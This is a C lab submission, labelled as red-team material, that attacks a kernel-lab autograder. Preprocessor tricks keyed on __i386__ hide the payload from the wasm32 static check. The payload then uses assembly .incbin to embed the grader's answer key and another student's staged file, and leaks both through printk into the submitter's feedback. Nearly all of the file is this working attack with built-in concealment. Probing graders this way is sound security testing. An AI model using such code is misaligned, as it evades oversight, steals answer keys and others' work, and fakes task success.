/*
 * Red team: a lab.c that reads a file of the grader's at kernel-build time
 * and prints it from the guest kernel into its own feedback.
 *
 * __i386__ is predefined by the kernel's cross gcc, not by the model's
 * clang --target=wasm32: CAT(SEL_, __i386__) keeps the code below only in
 * the kernel build, so the static check (clang's AST of the wasm32
 * compile) never sees it.  There, gas embeds @ANSWERS@ (an answer key,
 * by absolute path: the feedback shows the grader's paths) and @OTHER@
 * (another student's staged lab.c, by a path relative to the kernel
 * tree, which lies beside the staging folder) with .incbin, since the
 * kernel build runs on the host as the grader's user; the hook prints
 * them line by line with the prefix the kernel stage quotes, word for
 * word, as a "problem" in my feedback.
 */
#include "lab.h"
#define CAT_(a, b) a##b
#define CAT(a, b) CAT_(a, b)
#define SEL_1(...) __VA_ARGS__
#define SEL___i386__(...)
#define ONLY_IN_THE_KERNEL(...) CAT(SEL_, __i386__)(__VA_ARGS__)

ONLY_IN_THE_KERNEL(
__asm__(".section .rodata\n.globl lrulab_redteam_secret\nlrulab_redteam_secret:\n"
	".incbin \"@ANSWERS@\"\n.incbin \"@OTHER@\"\n.byte 0\n.previous\n");
extern const char lrulab_redteam_secret[];

static void leak(void)
{
	static int done;
	const char *p = lrulab_redteam_secret;
	char line[160];
	int n;

	if (done)
		return;
	done = 1;
	while (*p) {
		n = 0;
		while (*p && *p != '\n' && n < 159)
			line[n++] = *p++;
		line[n] = 0;
		if (*p)
			p++;
		printk("LRULAB-CHECK: %s\n", line);
	}
}
)

void lab_do_wp_page_release_old(struct page *old_page)
{
	ONLY_IN_THE_KERNEL(leak();)
	if (page_count(old_page) == 1)
		lru_cache_del(old_page);
	page_cache_release(old_page);
}
